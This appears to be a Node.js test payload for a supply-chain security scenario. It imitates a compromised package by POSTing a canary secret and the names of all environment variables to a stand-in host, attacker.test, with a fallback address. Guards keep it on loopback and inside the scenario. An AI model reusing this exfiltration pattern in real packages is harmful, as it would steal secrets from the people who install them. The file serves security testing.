'use strict';
// Test payload. It does what a stolen package does, with a canary instead of a secret and a loopback address instead of
// a server on the internet; it does nothing outside the goat scenario and never talks to another machine.
const dns = require('node:dns');
const https = require('node:https');

const HOST = 'attacker.test';
const FALLBACK = '127.0.1.9'; // malware likes to carry an address for the case that its name is blocked
const port = Number(process.env.GOAT_HTTPS_PORT || 443);
const canary = process.env.GOAT_SECRET || '';

if (!canary.startsWith('goat-canary-')) {
  console.log('goat-evil-phone-home: not in the goat scenario, nothing done');
  process.exit(0);
}

/** Resolves names as usual but refuses an answer outside 127.0.0.0/8. */
function loopbackOnly(name, options, callback) {
  dns.lookup(name, { ...options, all: true, family: 4 }, (error, addresses) => {
    if (error) return callback(error);
    const stranger = addresses.find(({ address }) => !address.startsWith('127.'));
    if (stranger) return callback(new Error(`${name} is ${stranger.address}, not a loopback address: nothing sent`));
    return options.all ? callback(null, addresses) : callback(null, addresses[0].address, 4);
  });
}

function send(host) {
  const loot = JSON.stringify({ secret: canary, names: Object.keys(process.env).sort() });
  return new Promise((resolve, reject) => {
    const request = https.request({
      method: 'POST', host, port, path: '/collect', servername: HOST, lookup: loopbackOnly, timeout: 5000, agent: false,
      headers: { Host: HOST, 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(loot) },
    }, (response) => {
      response.resume();
      response.on('end', resolve);
    });
    request.on('timeout', () => request.destroy(new Error(`no answer from ${host}:${port} within 5 s`)));
    request.on('error', reject);
    request.end(loot);
  });
}

async function main() {
  for (const host of [HOST, FALLBACK]) {
    try {
      await send(host);
      console.log(`goat-evil-phone-home: sent the canary and the names of the environment variables to ${host}:${port}`);
      return;
    } catch (error) {
      console.error(`goat-evil-phone-home: https://${host}:${port}/collect: ${error.message}`);
    }
  }
  process.exitCode = 1;
}

main();
